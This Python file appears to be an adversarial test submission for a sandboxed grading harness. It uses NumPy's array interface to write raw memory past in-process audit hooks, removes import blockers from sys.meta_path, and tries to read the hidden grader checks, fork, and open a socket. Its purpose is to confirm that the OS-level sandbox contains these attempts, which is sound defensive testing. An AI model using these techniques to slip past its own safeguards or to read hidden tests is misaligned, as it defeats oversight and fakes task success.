"""Attack: write raw memory through NumPy's array interface (what defeats in-process audit
hooks), prove it by changing an immutable bytes object in place, then go for the goals those
hooks would guard: import torch, read the hidden checks, start a process, open a socket.

Expected at the bwrap level: the raw write works (it is the student's own process), every
goal fails at the OS level; ``double`` fails (zeros), ``add`` passes.
"""

import os
import socket
import sys

import numpy as np

TARGETS: dict = {}  # host paths, filled in by tests/test_adversarial.py


def add(a, b):
    return np.add(a, b)


class _Raw:
    def __init__(self, address, size):
        self.__array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}


def _poke(address, data):
    view = np.asarray(_Raw(address, len(data)))
    view[:] = np.frombuffer(data, dtype=np.uint8)


def _goal_torch():
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    import torch

    return torch


def _goal_read():
    with open(TARGETS.get("hidden_check", "/nonexistent")) as f:
        return f.read()


def _goal_socket():
    socket.create_connection(("127.0.0.1", int(TARGETS.get("port", 9))), timeout=1).close()


def double(x):
    secret = b"immutable bytes: " + bytes(4 * [65])  # a fresh object, not a shared constant
    before = repr(secret)
    offset = sys.getsizeof(b"") - 1  # where a bytes object's data starts
    _poke(id(secret) + offset + len(secret) - 4, b"BBBB")
    print(f"raw write: {before} became {secret!r}")
    goals = {
        "import torch": _goal_torch,
        "read hidden checks": _goal_read,
        "fork": lambda: os.fork() == 0 and os._exit(0),
        "socket": _goal_socket,
    }
    reached = []
    for name, goal in goals.items():
        try:
            goal()
        except (ImportError, OSError) as exc:
            print(f"{name}: {type(exc).__name__}")
            continue
        reached.append(name)
    print(f"goals reached: {len(reached)} {reached}")
    return np.zeros_like(x)
